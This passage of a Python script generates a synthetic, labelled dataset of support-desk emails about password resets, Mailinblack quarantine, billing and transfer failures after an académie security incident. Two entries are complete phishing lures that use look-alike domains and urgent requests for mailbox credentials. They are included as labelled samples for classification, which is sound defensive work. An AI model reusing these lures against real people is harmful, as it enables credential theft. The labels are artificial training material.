"""))
label(11, "head_of_establishment_request", False, "0562281A", "bretagne", "esidoc", False, "fr",
      "The proviseure writes from the ce.<UAI> address (DKIM/SPF pass) to ask for an admin password reset and a new contact address.")

mail(12, frm=("GUEGUEN Erwan", "erwan.gueguen@ac-rennes.fr"), client="outlook",
     subject="Lien de réinitialisation \"déjà utilisé\" dès le premier clic", dt=when(6, 9, 18),
     text=T("""
Bonjour,

Troisième tentative ce matin : je demande un nouveau mot de passe pour l'Espace Acheteur, le mail arrive bien, mais quand je clique sur le lien la page affiche « Ce lien a déjà été utilisé ou a expiré ». Il s'est écoulé moins de deux minutes entre la réception et le clic.

Notre référent informatique pense que la nouvelle passerelle de sécurité installée par le Département après l'attaque « visite » tous les liens des mails entrants pour les analyser, et que c'est elle qui consomme le lien avant moi.

Pouvez-vous réinitialiser le mot de passe autrement ? Je dois valider une commande de manuels avant vendredi.

Cordialement,

Erwan Guéguen
Adjoint gestionnaire - Collège Charles-Le-Goffic, Lannion
UAI 0222143K
"""))
label(12, "password_reset", False, "0222143K", "bretagne", "espace_acheteur", True, "fr",
      "Reset links consumed by a link-scanning security gateway (no anti-spam product named): still password_reset, but sending yet another link by template would fail the same way, so a person must handle it.")

mail(13, frm=("Aurélie Moreau", "aurelie.moreau3@ac-orleans-tours.fr"), client="zimbra",
     subject="pas reçu le mail de confirmation d'inscription", dt=when(6, 11, 3),
     text=T("""
Bonjour,

je viens d'arriver comme gestionnaire au collège Edouard-Vaillant de Vierzon (0180802Z) et je me suis inscrite sur l'Espace Acheteur lundi. L'écran m'indiquait qu'un mail de confirmation allait m'être envoyé mais je n'ai rien recu, ni dans la boite de réception ni dans les indésirables. J'ai refait la demande mardi, toujours rien.

Merci de votre aide
Aurélie Moreau
"""))
label(13, "missing_noreply_mail", True, "0180802Z", "centre-val-de-loire", "espace_acheteur", False, "fr",
      "Sign-up confirmation mail never arrived, junk folder checked, no anti-spam product named.")

mail(14, frm=("Pierre-Paul Luciani", "pierre-paul.luciani@ac-corse.fr"), client="roundcube",
     subject="double authentification ??", dt=when(6, 13, 47),
     text=T("""
bonjour
depuis l incident on nous impose la double authentification sur l ENT et la messagerie, avec un code par SMS. sauf que je n ai pas de portable pro et je ne veux pas donner mon numero perso. c est vous qui gerez ca ? qui dois je contacter ?
merci
PP Luciani, intendance cité scolaire de Corte
"""))
label(14, "other", False, None, "corse", None, True, "fr",
      "Double authentication of the académie's own ENT and mailbox, which the desk does not run: other. Region from the ac-corse.fr sender; no UAI.")

mail(15, frm=("Fiona MacLeod", "fiona.macleod@ac-aix-marseille.fr"), client="outlook_en",
     subject="Quote needed for e-sidoc renewal - purchase order", dt=when(6, 15, 12),
     text=T("""
Hello,

I'm the new assistant in the finance office of the Lycée international Georges-Duby in Luynes (UAI 0131183R). Our e-sidoc subscription renews in January and our bursar needs a formal quote before she can raise the purchase order ("bon de commande") on the 2026 budget.

Could you send a quote addressed to the school's finance office (service intendance), with the VAT breakdown? We cannot commit the funds without it.

Many thanks,

Fiona MacLeod
Finance office / Intendance
"""))
label(15, "order_billing", False, "0131183R", "provence-alpes-cote-d-azur", "esidoc", False, "en",
      "English; asks for a formal quote (devis) for the e-sidoc renewal, needed before the purchase order.")

_bounce_id = alnum(14)
raw(16, [
    "Return-Path: <>",
    f"Delivered-To: {SUPPORT_ADDR}",
    f"Received: from mail.mairie-loc-eguiner.fr (mail.mairie-loc-eguiner.fr [203.0.113.58])\n\tby {MX} (Postfix) with ESMTPS id 4{alnum(12)}\n\tfor <{SUPPORT_ADDR}>; Fri, 07 Nov 2025 10:05:41 +0100 (CET)",
    f"Authentication-Results: {MX};\n\tdkim=none;\n\tspf=pass smtp.helo=mail.mairie-loc-eguiner.fr;\n\tdmarc=none",
    "From: Mail Delivery System <MAILER-DAEMON@mail.mairie-loc-eguiner.fr>",
    f"To: {SUPPORT_ADDR}",
    "Subject: Undelivered Mail Returned to Sender",
    "Date: Fri, 07 Nov 2025 10:05:40 +0100",
    f"Message-ID: <20251107090540.{_bounce_id}@mail.mairie-loc-eguiner.fr>",
    "Auto-Submitted: auto-replied",
    "MIME-Version: 1.0"],
    multi("report", [
        P(["Content-Description: Notification", "Content-Type: text/plain; charset=us-ascii"], T("""
This is the mail system at host mail.mairie-loc-eguiner.fr.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<secretariat@mairie-loc-eguiner.fr>: mailbox full: quota exceeded (552 5.2.2)
""")),
        P(["Content-Description: Delivery report", "Content-Type: message/delivery-status"], T(f"""
Reporting-MTA: dns; mail.mairie-loc-eguiner.fr
X-Postfix-Queue-ID: {_bounce_id}
X-Postfix-Sender: rfc822; support@assistance.example.fr
Arrival-Date: Fri,  7 Nov 2025 10:05:39 +0100 (CET)

Final-Recipient: rfc822; secretariat@mairie-loc-eguiner.fr
Original-Recipient: rfc822;secretariat@mairie-loc-eguiner.fr
Action: failed
Status: 5.2.2
Diagnostic-Code: X-Postfix; mailbox full: quota exceeded
""")),
        P(["Content-Description: Undelivered Message Headers", "Content-Type: text/rfc822-headers"], T("""
From: Assistance <support@assistance.example.fr>
To: secretariat@mairie-loc-eguiner.fr
Subject: [#SUP-118311] Votre demande : acces aux conventions de groupement
Date: Fri, 07 Nov 2025 10:05:37 +0100
Message-ID: <SUP-118311.1762506337.a41c0e@assistance.example.fr>
Auto-Submitted: auto-replied
""")),
    ], boundary=f"{_bounce_id}.1762506340/mail.mairie-loc-eguiner.fr",
        params=" report-type=delivery-status;", preamble="This is a MIME-encapsulated message."))
label(16, "automated", False, None, None, None, False, "en",
      "Postfix bounce (multipart/report, null Return-Path, MAILER-DAEMON): the desk's answer hit a full mailbox.")

mail(17, frm=("Lucas Giordano", "lucas.giordano@ac-nice.fr"), client="samsung",
     subject="mdp", dt=when(6, 18, 26),
     text=T("""
bjr, depuis la reinit generale de l academie jarrive plus a me connecter a lesidoc du cdi, jai oublié le mdp admin (c pas le meme que la messagerie je crois??). vous pouvez m aider svp. merci
Lucas, doc au college de Grasse

Envoyé depuis mon appareil Galaxy
"""))
label(17, "password_reset", True, None, "provence-alpes-cote-d-azur", "esidoc", False, "fr",
      "SMS style, no accents, 'mdp'; forgotten e-sidoc admin password, no UAI: region from ac-nice.fr. Samsung mail, base64 parts.")

mail(18, frm=("Jean-Marc Filippi", "jean-marc.filippi@ac-corse.fr"), client="thunderbird",
     subject="Vos mails en quarantaine Mailinblack", dt=when(7, 8, 12),
     text=T("""
Bonjour,

Le rectorat a activé Mailinblack sur toutes les boîtes des établissements de Haute-Corse juste après l'incident. Depuis, aucun des messages de l'Espace Acheteur ne me parvient directement : ils sont tous dans la quarantaine Mailinblack (confirmations de commande, avis d'expédition, et surtout le lien d'activation de ma collègue adjointe).

Je les libère un par un, mais y a-t-il une procédure pour autoriser définitivement vos adresses ?

Bien à vous,

-- 
Jean-Marc Filippi
Gestionnaire
Lycée Jean-Nicoli - Bastia
7200535U
"""))
label(18, "mailinblack_spam", True, "7200535U", "corse", "espace_acheteur", False, "fr",
      "Espace Acheteur mails held in the Mailinblack quarantine, product named; asks for a permanent allow-list. Haute-Corse prefix 720.")

mail(19, frm=("Mailinblack Protect", "quarantaine@notification-mailinblack-secure.com"), client="other",
     subject="Vous avez 9 messages en attente de validation", dt=when(7, 3, 41),
     auth=("none", "fail", "none"), mta=("vps-2291.cloud-hosting-fr.net", "203.0.113.19"),
     return_path="info@cloud-hosting-fr.net",
     text=T("""
Mailinblack

Bonjour support@assistance.example.fr,

9 messages adressés à votre boîte sont retenus en quarantaine depuis le 04/11/2025 suite à la mise à jour de sécurité de votre messagerie.

Ces messages seront supprimés définitivement dans 24 heures.

Libérer mes messages : https://notification-mailinblack-secure.com/release?box=support

Connectez-vous avec vos identifiants de messagerie pour confirmer la libération.

Mailinblack - Protection de messagerie
"""),
     html=T("""
<html><body style="font-family:Helvetica,Arial,sans-serif">
<div style="background:#1d1d1b;color:#fff;padding:12px;font-size:20px">mailin<b>black</b></div>
<p>Bonjour support@assistance.example.fr,</p>
<p><b>9 messages</b> adressés à votre boîte sont retenus en quarantaine depuis le 04/11/2025 suite à la mise à jour de sécurité de votre messagerie.</p>
<p style="color:#c00">Ces messages seront supprimés définitivement dans 24 heures.</p>
<p><a href="https://notification-mailinblack-secure.com/release?box=support" style="background:#f39200;color:#fff;padding:8px 18px;text-decoration:none">Libérer mes messages</a></p>
<p style="font-size:11px">Connectez-vous avec vos identifiants de messagerie pour confirmer la libération.</p>
</body></html>
"""))
label(19, "other", False, None, None, None, True, "fr",
      "Phishing imitating a Mailinblack quarantine report, sent to the desk itself from a look-alike domain with SPF fail: nobody asks about a blocked mail, so not mailinblack_spam.")

mail(20, frm=("Stéphane Collet", "s.collet@ensemble-sainte-anne-vitre.fr"), client="outlook",
     subject="Transferts EcoleDirecte en échec depuis le changement de mot de passe serveur", dt=when(7, 9, 30),
     text=T("""
Bonjour,

Après l'alerte de sécurité de la semaine dernière, notre prestataire a changé les mots de passe de tous les comptes Windows de l'établissement, y compris celui du serveur où tourne Charlemagne. Depuis, les transferts vers EcoleDirecte ne partent plus : Outils affiche « Échec de connexion au service de transfert » et le dernier transfert réussi date du 31 octobre.

Les parents ne voient plus les notes, alors que les conseils de classe approchent...

Que faut-il reconfigurer ? Faut-il régénérer quelque chose de votre côté ?

Merci,

Stéphane Collet
Responsable informatique
Ensemble scolaire Sainte-Anne - Vitré
UAI 0350863Y
"""))
label(20, "transfer_incident", False, "0350863Y", "bretagne", "ecoledirecte", True, "fr",
      "EcoleDirecte transfers failing since the server's Windows passwords were changed: mentions passwords, but it is a transfer incident. Private school domain, region from the UAI.")

mail(21, frm=("Nathalie Quéré", "secretariat@sivos-elorn.fr"), client="thunderbird",
     subject="Création de compte acheteur", dt=when(7, 10, 44),
     text=T("""
Bonjour,

Je suis secrétaire du SIVOS de l'Elorn (deux écoles primaires). Nous souhaitons passer nos commandes de fournitures par la centrale d'achat l'an prochain. Comment créer un compte sur l'Espace Acheteur ?

Merci, cordialement
Nathalie Quéré
"""))
label(21, "account_creation", True, None, None, "espace_acheteur", False, "fr",
      "A school syndicate asks how to create a buyer account: the sign-up answer fits. Non-academic sender, no UAI.")

mail(22, frm=("MARTINEZ Valérie", "valerie.martinez@ac-aix-marseille.fr"), client="outlook",
     subject="Abonnement Universalis commandé le 16 octobre toujours inactif", dt=when(4, 12, 8),
     text=T("""
Bonjour,

Nous avons passé commande de l'abonnement Universalis Junior le 16 octobre (bon validé par la gestionnaire le jour même). Trois semaines plus tard, la ressource n'est toujours pas accessible depuis notre portail : le lien renvoie vers une page « abonnement non trouvé ».

Je sais que l'académie a eu des soucis informatiques pendant les vacances, mais je ne pense pas que cela vienne de chez nous puisque les autres ressources fonctionnent.

Merci de regarder,

Valérie Martinez
Professeure documentaliste
Collège Paul-Éluard - Cavaillon
UAI : 0840232W
"""))
label(22, "subscription_activation", False, "0840232W", "provence-alpes-cote-d-azur", "esidoc", False, "fr",
      "Ordered on 16 October, still inactive on 4 November: well past the 72-hour rule, a person must check the order.")

mail(23, frm=("Rachel Turner", "rachel.turner@ac-orleans-tours.fr"), client="zimbra",
     subject="Forgotten password - e-sidoc admin", dt=when(7, 14, 2),
     text=T("""
Hi,

Sorry to write in English, my written French is still shaky. I help in the CDI of the Lycée Marceau in Chartres (UAI 0280514G) and I look after the e-sidoc portal for the European section. All our passwords were reset by the rectorat after the security incident and I have completely lost track of the e-sidoc one.

Could you help me get back into the admin interface?

Thank you,
Rachel Turner
Assistante de langue / CDI
"""))
label(23, "password_reset", True, "0280514G", "centre-val-de-loire", "esidoc", False, "en",
      "English; lost e-sidoc admin password after the académie's forced reset.")

mail(24, frm=("Claire Pasquier", "claire.pasquier@ac-orleans-tours.fr"), client="thunderbird",
     subject="Tr: Réinitialisation de votre mot de passe - est-ce bien vous ?", dt=when(6, 7, 40),
     text=T("""
Bonjour,

J'ai reçu ce matin le message ci-dessous alors que je n'ai demandé aucune réinitialisation. Avec tout ce qu'on reçoit en ce moment, je préfère vérifier : est-ce bien vous qui l'avez envoyé ? Et si quelqu'un d'autre a fait la demande à ma place, cela m'inquiète un peu.

Je n'ai évidemment pas cliqué.

Claire Pasquier
Documentaliste, collège Augustin-Thierry, Blois (0412155V)


-------- Message transféré --------
Sujet : 	Réinitialisation de votre mot de passe
Date : 	Thu, 6 Nov 2025 06:58:12 +0100
De : 	e-sidoc <no-reply@esidoc.fr>
Pour : 	claire.pasquier@ac-orleans-tours.fr

Bonjour,

Une demande de réinitialisation du mot de passe a été faite pour le compte administrateur du portail 0412155V.

Pour choisir un nouveau mot de passe, utilisez le lien suivant (valable 12 heures) :
https://0412155v.esidoc.fr/reset?token=Zp4Kx0qYbN

Si vous n'êtes pas à l'origine de cette demande, ignorez ce message.
"""))
label(24, "other", False, "0412155V", "centre-val-de-loire", "esidoc", True, "fr",
      "Forwards a reset mail she did not request and asks whether it is really from us and who asked: a security question for a person, not a reset request (she does not want a new password).")

_mdn_mid = our_ref()
raw(25, [
    *transport("morgane.le-roux@ac-rennes.fr", when(7, 15, 3), "outlook"),
    "From: LE ROUX Morgane <morgane.le-roux@ac-rennes.fr>",
    "To: Assistance <support@assistance.example.fr>",
    "Subject: " + eh("Lu : [#SUP-118190] Votre demande d'accès aux documents du marché"),
    "Date: Fri, 7 Nov 2025 14:03:11 +0000",
    f"Message-ID: <PR1P264MB{R.randint(1000, 9999)}{hexs(24, True)}@PR1P264MB3377.FRAP264.PROD.OUTLOOK.COM>",
    "Thread-Topic: " + eh("[#SUP-118190] Votre demande d'accès aux documents du marché"),
    f"In-Reply-To: {_mdn_mid}",
    f"References: {_mdn_mid}",
    "Content-Language: fr-FR",
    "X-MS-Has-Attach: ",
    "MIME-Version: 1.0"],
    multi("report", [
        text_part(T("""
Votre message

  À : Assistance
  Objet : [#SUP-118190] Votre demande d'accès aux documents du marché
  Date d'envoi : vendredi 7 novembre 2025 14:58:02 (UTC+01:00) Bruxelles, Copenhague, Madrid, Paris

a été lu le vendredi 7 novembre 2025 15:03:11 (UTC+01:00) Bruxelles, Copenhague, Madrid, Paris.
"""), "plain", "quoted-printable"),
        P(["Content-Type: message/disposition-notification"], T(f"""
Reporting-UA: PR1P264MB3377.FRAP264.PROD.OUTLOOK.COM; Microsoft Exchange Server
Final-Recipient: rfc822; morgane.le-roux@ac-rennes.fr
Original-Message-ID: {_mdn_mid}
Disposition: manual-action/MDN-sent-manually; displayed
""")),
    ], boundary=f"_002_{hexs(24, True)}FRAP_", params=" report-type=disposition-notification;"))
label(25, "automated", False, None, "bretagne", None, False, "fr",
      "Outlook read receipt in French ('Lu :'), multipart/report disposition-notification. Region from the ac-rennes.fr sender.")

# ==========================================================================
# h026 - h050
# ==========================================================================

mail(26, frm=("AUBERT Nicolas", "nicolas.aubert@ac-aix-marseille.fr"), client="outlook_html",
     subject="Avenant n°2 marché denrées - invisible dans Mes marchés", dt=when(7, 11, 25),
     html_only=True, charset="windows-1252", cte="quoted-printable",
     html=T("""
<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<style><!-- p.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;} --></style></head>
<body lang="FR">
<div class="WordSection1">
<p class="MsoNormal">Bonjour,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Depuis que j’ai dû changer mon mot de passe lundi (réinitialisation imposée par l’académie), je me reconnecte sans problème à l’Espace Acheteur, mais l’<b>avenant n°2</b> du marché de denrées alimentaires (lot 3, produits laitiers) n’apparaît plus dans « Mes marchés ». Ma collègue gestionnaire le voit encore de son côté.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Nous avons besoin des nouveaux prix unitaires (la hausse est de 0,12 € par pot d’après le fournisseur) pour préparer les commandes de décembre. Pouvez-vous vérifier mes accès à ce document&nbsp;?<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Merci,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal"><b><span style="color:#1F3864">Nicolas Aubert</span></b><o:p></o:p></p>
<p class="MsoNormal"><span style="color:#1F3864">Adjoint gestionnaire – Service de restauration<br>Collège Campra – Aix-en-Provence<br>UAI 0132372H</span><o:p></o:p></p>
</div>
</body>
</html>
"""))
label(26, "contract_documents", False, "0132372H", "provence-alpes-cote-d-azur", "espace_acheteur", True, "fr",
      "HTML-only Outlook mail in windows-1252 (curly quotes, euro sign): an amendment (avenant n°2) is no longer visible for him. He mentions the forced password change only to say that logging in works.")

mail(27, frm=("Principal Collège Les Écrins", "ce.0050584H@ac-aix-marseille.fr"), client="zimbra",
     subject="Autorisation commande EA-25-08817 (mobilier CDI)", dt=when(7, 16, 2),
     attach=[attachment("BC_EA-25-08817_signe.pdf", "application/pdf", fake_pdf("Bon de commande EA-25-08817 signe"))],
     text=T("""
Bonjour,

Je vous confirme par la présente que j'autorise la commande n° EA-25-08817, d'un montant de 6 480,00 € TTC (mobilier du CDI), saisie par notre gestionnaire Mme Reynaud sur l'Espace Acheteur. Le montant dépasse le seuil de validation de son profil, d'où cette validation écrite.

Vous trouverez en pièce jointe le bon de commande signé.

Cordialement,

Bernard Roux
Principal
Collège Les Écrins - Gap
"""))
label(27, "head_of_establishment_request", False, "0050584H", "provence-alpes-cote-d-azur", "espace_acheteur", False, "fr",
      "The principal authorises in writing an order above the gestionnaire's threshold, from the ce.<UAI> address, signed order form attached. UAI only in the sender address.")

mail(28, frm=("Mairie de Sainte-Lucie - Secrétariat", "secretariat@mairie-sainte-lucie-de-tallano.fr"), client="outlook",
     subject="Mot de passe oublié : aucun mail reçu", dt=when(10, 9, 14),
     text=T("""
Bonjour,

J'ai cliqué trois fois sur « Mot de passe oublié » sur l'Espace Acheteur depuis vendredi, et je n'ai jamais reçu le mail permettant d'en choisir un nouveau. J'ai regardé dans les courriers indésirables et même dans la corbeille.

Notre messagerie est hébergée chez un prestataire, nous n'avons pas d'antispam particulier à ma connaissance. Les autres mails arrivent normalement.

Cordialement,

Josiane Pietri
Secrétaire de mairie
"""))
label(28, "missing_noreply_mail", True, None, None, "espace_acheteur", True, "fr",
      "Reads like a password problem, but the reset tool works and its mail never arrives: missing_noreply_mail. No anti-spam product named. Commune address: no UAI, no region.")

mail(29, frm=("Soizic Le Bras", "soizic.le-bras@ac-rennes.fr"), client="apple",
     subject="Réinitialisation sans lien ?", dt=when(10, 10, 2),
     text=T("""
Bonjour,

Mon mot de passe e-sidoc ne fonctionne plus depuis la remise à zéro de la semaine dernière, et je sais que la procédure normale consiste à recevoir un lien par mail. Seulement, notre principal adjoint et le référent numérique nous ont formellement interdit de cliquer sur un lien reçu par mail jusqu'à nouvel ordre, même s'il semble venir d'un service connu.

Existe-t-il une autre façon de faire ? Par téléphone, ou en me connectant directement au site sans passer par un mail ?

Merci,

Soizic Le Bras
CDI - Collège Kerichen, Brest
UAI 0290387N
"""))
label(29, "password_reset", False, "0290387N", "bretagne", "esidoc", True, "fr",
      "Lost e-sidoc password, but she has been told never to click a link received by mail and asks for another way: the reset-link answer would not be used, a person should explain.")

mail(30, frm=("Antoine Paoli", "antoine.paoli@ac-corse.fr"), client="zimbra",
     subject="Facture Chorus rejetée - engagement juridique manquant", dt=when(10, 11, 37),
     text=T("""
Bonjour,

La facture n° FA-2025-10-2291 relative à notre commande de papier de septembre a été rejetée sur Chorus Pro par l'agent comptable : le numéro d'engagement juridique n'y figure pas. Notre numéro d'EJ est le 1300458721.

Pourriez-vous émettre une nouvelle facture en y faisant apparaître ce numéro ? Sans cela nous ne pourrons pas la mettre en paiement avant la clôture de l'exercice.

Merci par avance.

A. Paoli
Adjoint gestionnaire
Collège de l'Alta Rocca - Levie
6200043C
"""))
label(30, "order_billing", False, "6200043C", "corse", "espace_acheteur", False, "fr",
      "Invoice rejected on Chorus Pro for a missing engagement number; asks for a corrected invoice.")

mail(31, frm=("IT Helpdesk", "it-helpdesk@m365-accountservices.com"), client="other",
     subject="Password Expiry Notice: support@assistance.example.fr", dt=when(10, 4, 8),
     to=SUPPORT_ADDR, auth=("none", "softfail", "none"), mta=("mx.m365-accountservices.com", "203.0.113.201"),
     text=T("""
Dear user,

The password for your mailbox support@assistance.example.fr expires today.

To keep your current password and avoid losing access to your messages, confirm your credentials below:

Keep Current Password: https://m365-accountservices.com/keep?e=support%40assistance.example.fr

If no action is taken within 24 hours, your account will be locked automatically.

IT Helpdesk
Microsoft 365 Account Services
"""),
     html=T("""
<html><body style="font-family:Segoe UI,Arial">
<p>Dear user,</p>
<p>The password for your mailbox <b>support@assistance.example.fr</b> expires <b>today</b>.</p>
<p>To keep your current password and avoid losing access to your messages, confirm your credentials below:</p>
<p><a href="https://m365-accountservices.com/keep?e=support%40assistance.example.fr" style="background:#0078d4;color:#fff;padding:8px 16px;text-decoration:none">Keep Current Password</a></p>
<p>If no action is taken within 24 hours, your account will be locked automatically.</p>
<p>IT Helpdesk<br>Microsoft 365 Account Services</p>
</body></html>
"""))
label(31, "other", False, None, None, None, True, "en",
      "English credential phishing ('password expires today') aimed at the desk's own mailbox, SPF softfail: other, though it talks about passwords and locked accounts.")

mail(32, frm=("DUBOIS Martine", "martine.dubois@ac-orleans-tours.fr"), client="outlook",
     subject="Mail MailInBlack reçu - est-ce bien vous ?", dt=when(10, 14, 20),
     text=T("""
Bonjour,

Je reçois depuis ce matin des messages de MailInBlack m'indiquant qu'un mail de votre adresse no-reply de l'Espace Acheteur est « en attente » et qu'il faut que je le libère depuis mon espace MailInBlack. Je suppose que c'est la confirmation de ma commande de cartouches, mais avec toutes les fausses alertes qu'on reçoit depuis l'incident, je me méfie : est-ce bien vous ?

Et surtout, comment faire pour que vos messages arrivent normalement ?

Cordialement,

Martine Dubois
Secrétaire de gestion - Lycée Pierre-et-Marie-Curie, Châteauroux
0361479M
"""))
label(32, "mailinblack_spam", True, "0361479M", "centre-val-de-loire", "espace_acheteur", True, "fr",
      "'Est-ce bien vous ?' about a real Espace Acheteur mail held in MailInBlack; she also asks how to get our mails through: the MailInBlack guide answers both (release from the MailInBlack space, allow-list).")

mail(33, frm=("Dominique Mattei", "dominique.mattei@ac-corse.fr"), client="zimbra",
     subject="Absent : Re: Convention de groupement - avenant 1", dt=when(10, 15, 31),
     in_reply_to=our_ref(),
     extra=("Auto-Submitted: auto-replied (zimbra; vacation)",),
     text=T("""
Bonjour,

Je suis en formation jusqu'au vendredi 14 novembre et ne consulte pas ma messagerie.
I am away until Friday 14 November with no access to e-mail.

Pour les conventions de groupement et les marchés, vous pouvez écrire à la cellule achats du rectorat.

Dominique Mattei
"""))
label(33, "automated", False, None, "corse", None, False, "fr",
      "Bilingual Zimbra vacation reply (Auto-Submitted) quoting a contract subject. Region from the ac-corse.fr sender.")

mail(34, frm=("Sophie Bellini", "sophie.bellini06@gmail.com"), client="gmail",
     subject="Universalis", dt=when(10, 16, 48),
     text=T("""
Bonjour,
on a commandé hier l'abonnement Universalis pour le collège (UAI 0060122A, Menton) et le lien dans e-sidoc n'affiche rien pour l'instant. Combien de temps faut-il compter ?
Merci,
Sophie Bellini, documentaliste
"""))
label(34, "subscription_activation", True, "0060122A", "provence-alpes-cote-d-azur", "esidoc", False, "fr",
      "Universalis ordered yesterday, not yet visible: within 72 hours. Personal Gmail, region from the UAI.")

mail(35, frm=("JAFFRÉ Loïc", "loic.jaffre@ac-rennes.fr"), client="outlook",
     subject="Compte Espace Acheteur verrouillé", dt=when(3, 9, 55),
     text=T("""
Bonjour,

Ce matin, après la réinitialisation imposée de nos mots de passe académiques, j'ai voulu me connecter à l'Espace Acheteur avec le nouveau. Après quelques essais, le site m'indique que le compte est verrouillé pour trop de tentatives infructueuses. J'ai attendu une heure, c'est toujours le cas.

Merci de bien vouloir le déverrouiller ou de m'indiquer la marche à suivre.

Loïc Jaffré
Gestionnaire
Collège Jules-Simon - Vannes
RNE : 0560637 N
"""))
label(35, "password_reset", True, "0560637N", "bretagne", "espace_acheteur", True, "fr",
      "Account locked after failed attempts (he tried the new académie password). UAI written with a space before the letter ('0560637 N'); the label is the joined code.")

mail(36, frm=("Anne Riou", "anne.riou@ac-rennes.fr"), client="zimbra",
     subject="Vos serveurs ont-ils été touchés ?", dt=when(10, 8, 40),
     text=T("""
Bonjour,

Suite à l'incident de cybersécurité qui a touché l'académie, notre chef d'établissement nous demande de vérifier auprès de chacun de nos fournisseurs de services en ligne si des données ont pu fuiter.

Pouvez-vous nous confirmer que vos plateformes n'ont pas été concernées, et nous dire si les données de nos commandes et de nos comptes (adresses, noms des utilisateurs) sont en sécurité ? Un simple courrier de votre part suffira pour notre registre RGPD.

Cordialement,

Anne Riou
Secrétaire de direction
"""))
label(36, "other", False, None, "bretagne", None, False, "fr",
      "Asks whether our platforms were affected by the incident (data-protection register): no category fits. Region from ac-rennes.fr.")

mail(37, frm=("Karim Benali", "informatique@nd-manosque.fr"), client="outlook",
     subject="mot de passe de maintenance du jour", dt=when(12, 8, 6),
     text=T("""
Bonjour,

Pour relancer la réplication vers EcoleDirecte après la restauration de notre serveur (nous l'avons réinstallé suite au problème de sécurité de la semaine dernière), Charlemagne me demande le mot de passe de maintenance du jour. Pouvez-vous me le communiquer ?

Ce n'est pas un mot de passe oublié : l'outil affiche « code journalier requis ».

Merci,

Karim Benali
Informatique - Institution Notre-Dame, Manosque
UAI 0042794R
"""))
label(37, "transfer_incident", False, "0042794R", "provence-alpes-cote-d-azur", "ecoledirecte", True, "fr",
      "Daily maintenance password to re-run the replication after a server restore: transfer_incident per the taxonomy, and he says explicitly it is not a forgotten password.")

mail(38, frm=("Laurent Girard", "laurent.girard@ac-orleans-tours.fr"), client="thunderbird",
     subject="Administrateur de notre structure ?", dt=when(12, 9, 51),
     text=T("""
Bonjour,

Je suis le nouveau gestionnaire du lycée Alain-Fournier à Bourges (UAI 0182518P). Ma demande de compte sur l'Espace Acheteur est « en attente de validation par l'administrateur de la structure », mais personne ici ne sait qui est cet administrateur : mon prédécesseur est parti en juin et la secrétaire n'a plus ses identifiants.

Pouvez-vous me dire qui est déclaré administrateur pour notre établissement ?

Bien cordialement,
Laurent Girard
"""))
label(38, "account_creation", False, "0182518P", "centre-val-de-loire", "espace_acheteur", False, "fr",
      "Account waiting for validation and nobody knows who the structure's administrator is: needs a look-up by a person.")

raw(39, [
    *transport("communication-dsi@ac-orleans-tours.fr", when(12, 7, 30), "other",
               mta=("listes.ac-orleans-tours.fr", "192.0.2.45"),
               return_path="etablissements-bounces@listes.ac-orleans-tours.fr"),
    "From: =?utf-8?q?DSI_-_Rectorat_Orl=C3=A9ans-Tours?= <communication-dsi@ac-orleans-tours.fr>",
    "To: etablissements@listes.ac-orleans-tours.fr",
    "Subject: " + eh("[Etablissements] Vigilance : campagnes d'hameçonnage en cours"),
    f"Date: {rfcdate(when(12, 7, 30, 2))}",
    f"Message-ID: <{hexs(12)}.{R.randint(1000, 9999)}@listes.ac-orleans-tours.fr>",
    "List-Id: Informations aux etablissements <etablissements.listes.ac-orleans-tours.fr>",
    "List-Unsubscribe: <mailto:etablissements-unsubscribe@listes.ac-orleans-tours.fr>",
    "List-Post: NO",
    "Precedence: list",
    "X-Loop: etablissements@listes.ac-orleans-tours.fr",
    "MIME-Version: 1.0"],
    text_part(T("""
Mesdames et Messieurs les chefs d'établissement, gestionnaires et personnels administratifs,

Depuis la réinitialisation générale des mots de passe du 3 novembre, plusieurs campagnes d'hameçonnage visent les personnels de l'académie. Les messages frauduleux imitent notamment :
- des services d'assistance de plateformes utilisées par les établissements ;
- des notifications de quarantaine MailInBlack ;
- des factures « en attente de validation » sur Chorus Pro.

Rappels :
- aucun service ne vous demandera votre mot de passe par courriel ;
- en cas de doute, ne cliquez pas : rendez-vous directement sur le site concerné en saisissant son adresse ;
- signalez tout message suspect à votre assistance de proximité.

La double authentification sera étendue à la messagerie le 17 novembre ; un guide sera diffusé la semaine prochaine.

La Direction des systèmes d'information

--
Vous recevez ce message car vous êtes inscrit à la liste etablissements@listes.ac-orleans-tours.fr.
"""), cte="quoted-printable"))
label(39, "automated", False, None, "centre-val-de-loire", None, True, "fr",
      "Académie mailing-list bulletin (List-Id, Precedence: list) warning about phishing imitating help desks, MailInBlack and Chorus Pro; mentions passwords but is not addressed to the desk. Region from the ac-orleans-tours.fr sender.")

mail(40, frm=("Stéphanie Orsini", "stephanie.orsini@ac-corse.fr"), client="apple",
     subject="Changement adresse de contact e-sidoc - école de Lupino", dt=when(12, 13, 15),
     text=T("""
Bonjour,

Je suis directrice de l'école élémentaire de Lupino à Bastia (UAI 7200093N). L'adresse de contact de notre portail e-sidoc (BCD) était celle de l'ancienne directrice, qui a été victime du phishing du mois dernier : sa messagerie a été utilisée pour envoyer des messages frauduleux et elle a été fermée.

Je vous demande donc de remplacer l'adresse de contact du compte administrateur par celle de l'école, ce.7200093N@ac-corse.fr, et de réinitialiser le mot de passe par sécurité.

Merci,

Stéphanie Orsini
Directrice
"""))
label(40, "head_of_establishment_request", False, "7200093N", "corse", "esidoc", False, "fr",
      "A primary-school head (directrice d'école) asks for a new contact address and an admin password reset after the former head's mailbox was compromised. Personal academic address, not the ce. one.")

mail(41, frm=("Maëlle Tanguy", "maelle.tanguy@ac-rennes.fr"), client="apple",
     subject="Mail d'activation e-sidoc jamais reçu", dt=when(12, 17, 22),
     text=T("""
Bonjour,

